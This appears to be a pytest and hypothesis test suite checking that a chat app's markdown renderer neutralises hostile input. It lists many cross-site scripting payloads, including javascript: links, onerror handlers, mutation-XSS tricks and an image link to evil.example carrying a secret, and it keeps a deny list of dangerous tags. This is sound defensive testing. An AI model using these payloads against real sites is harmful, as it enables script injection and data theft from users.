"""Nothing in a rendered answer runs, loads or poses as a part of the page, whatever was written."""

import re
import time
from html.parser import HTMLParser
from urllib.parse import urlsplit
from uuid import UUID

import nh3
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from chat.rendering.markdown import render
from chat.rendering.shapes import CitationView
from chat.rendering.source import PARSER

CITATIONS = (CitationView(UUID(int=1), 1, 'a"><img src=x onerror=alert(1)>.pdf', 2, "q", "/documents/1/"),)

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x>",
    "<iframe src='https://evil.example'></iframe>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<form action=https://evil.example><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example>",
    "<base href=https://evil.example>",
    "<a href='javascript:alert(1)'>x</a>",
    "<div id=parley-chat name=body style='background:url(https://evil.example)'>",
    "<parley-chat></parley-chat>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<https://a.b/\"onmouseover=alert(1)>",
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "![x](https://evil.example/?q=secret)",
    "![x](javascript:alert(1))",
    "![\"onerror=alert(1)](x)",
    "[![x](https://evil.example/i.png)](https://evil.example)",
    "[x](javascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](\u0001javascript:alert(1))",
    "[x](vbscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.example)",
    "[x](/account/logout/)",
    "[x](https://a.b \"title\\\" onmouseover=alert(1)\")",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "https://a.b/\"onmouseover=alert(1)",
    "https://a.b/'><script>alert(1)</script>",
    "https://[1]\"onclick=alert(1)",
    "```\"><script>alert(1)</script>\nx\n```",
    "```html\n<script>alert(1)</script>\n```",
    "```python\n'''<img src=x onerror=alert(1)>'''\n```",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\text{</mtext></math><img src=x onerror=alert(1)>}$",
    "$$\\style{background:url(https://evil.example)}{x}$$",
    "$\\class{x}{y} \\cssId{parley-chat}{z} \\unicode{x3c}$",
    "$\\color{red\" onclick=\"alert(1)}{x}$",
    "$\\fcolorbox{url(https://evil.example)}{url(https://evil.example)}{x}$",
    "\\(</span><script>alert(1)</script>\\)",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>x</script> |",
    "- [x] <input onfocus=alert(1) autofocus>",
    "[^1]: <script>alert(1)</script>\n\nx[^1][^\"><img/src=x>]",
    "> [!NOTE\"onclick=alert(1)]\n> x",
    "[1]<a class=\"citation\" href=\"https://evil.example\" data-citation=\"1\">1</a>",
    "\ufdd0script\ufdd1alert(1)\ufdd0/script>",
    "<a href=\"https://a.b\" class=\"citation\" data-citation=\"x\">1</a>",
]  # fmt: skip

_NEVER = {
    "script", "style", "img", "iframe", "object", "embed", "form", "input", "button", "link", "meta", "base", "svg",
    "video", "audio", "source", "template", "textarea", "annotation-xml", "mglyph", "malignmark", "maction",
    "semantics",
    "portal", "frame", "applet", "noscript", "parley-chat",
}  # fmt: skip


_ACTIVE = re.compile(r"url\(|javascript:|expression\(", re.IGNORECASE)


class Inspector(HTMLParser):
    """Collects what a browser would act upon."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _NEVER or (":" in tag):
            self.found.append(f"<{tag}>")
        own_chip = ("class", "citation") in attrs
        for name, value in attrs:
            if name.startswith("on") or name in {"id", "name", "style", "src", "srcset", "action", "xlink:href"}:
                self.found.append(f"{tag}[{name}]")
            if name == "href" and not own_chip and urlsplit(value or "").scheme not in {"http", "https", "mailto"}:
                self.found.append(f"{tag}[href={value}]")
            if name == "data-citation" and value != str(UUID(int=1)):
                self.found.append(f"{tag}[data-citation={value}]")
            # text for readers and an address judged above may hold any words
            if name not in {"alttext", "href", "title", "aria-label"} and _ACTIVE.search(value or ""):
                self.found.append(f"{tag}[{name}={value}]")


def what_acts(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.found


@pytest.mark.parametrize("text", ATTACKS)
def test_an_attack_stays_text(text: str) -> None:
    for written in (text, f"a {text} b [1]", f"> {text}", f"- {text}", f"| {text} |\n|---|\n| {text} |"):
        assert what_acts(render(written, CITATIONS)) == []


@pytest.mark.parametrize("text", ATTACKS[:4])
def test_control_the_inspector_sees_these_attacks_where_nothing_protects(text: str) -> None:
    assert what_acts(PARSER.html(text)) != []


def test_control_the_sanitisers_defaults_would_load_a_remote_image() -> None:
    assert "img[src]" in what_acts(nh3.clean(PARSER.html("![x](https://evil.example/?q=secret)")))


_SIGNS = st.sampled_from([
    *"<>&\"'[](){}!*_`~$\\|#-=+:/.,;1 \n\t^", "\n\n", "```", "$$", "\\(", "\\)", "\\[", "\\]", "](", "![", "【", "】",
    "<script>", "</script>", "<img src=x onerror=alert(1)>", "onerror=", "javascript:", "https://", "data:", "<math>",
    "</math>", "<mtext>", "<style>", "<!--", "-->", "<svg>", "\\text{", "\\frac", "\\href{", "}", "[1]", "[^1]", "&lt;",
    "&#60;", "|---|", "- [x] ", "> [!NOTE]\n", "\ufdd0", "\ufdd1", "\x00", "\ud800", "\udc00", "é", "𝔘", "\u202e",
    "a", "\r",
])  # fmt: skip
HOSTILE = st.lists(st.one_of(_SIGNS, st.sampled_from(ATTACKS), st.text(max_size=8)), max_size=40).map("".join)


@settings(max_examples=400, deadline=None)
@given(HOSTILE)
def test_whatever_is_written_nothing_acts_and_nothing_raises(text: str) -> None:
    assert what_acts(render(text, CITATIONS)) == []


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from([
    "\\frac", "\\sqrt", "\\left", "\\right", "\\begin{matrix}", "\\end{matrix}", "\\text{", "\\limits", "\\overline",
    "\\genfrac", "\\hspace{", "\\color{", "\\mathbb", "\\substack", "\\not", "\\big", "\\over", "\\\\", "&", "^", "_",
    "{", "}", "(", ")", "[", "]", "x", "1", " ", "'", "\\href{javascript:x}", "\\hline", "\\middle", "\\tag{",
    "\\binom",
]), max_size=25).map("".join))  # fmt: skip
def test_no_formula_breaks_the_page(tex: str) -> None:
    assert what_acts(render(f"$$ {tex} $$\n\n\\({tex}\\)", CITATIONS)) == []


@pytest.mark.parametrize(
    "unit",
    [">", "> ", "* - ", "1. ", "[", "*a ", "*a **b ", "`", "- ", "$", "![[", "|a", "<", "$$ ", "\\[", "\\(", "~~a",
     "https://.)", "[1", "【1", "&", "\\", "http://a.b&quot;", "[^a]", "<a", "**", "_a_", "[a](", "```\n", "$x"],
)  # fmt: skip
def test_time_grows_with_the_length_only(unit: str) -> None:
    text = unit * (60_000 // len(unit))
    started = time.process_time()
    render(text, CITATIONS)
    assert time.process_time() - started < 2
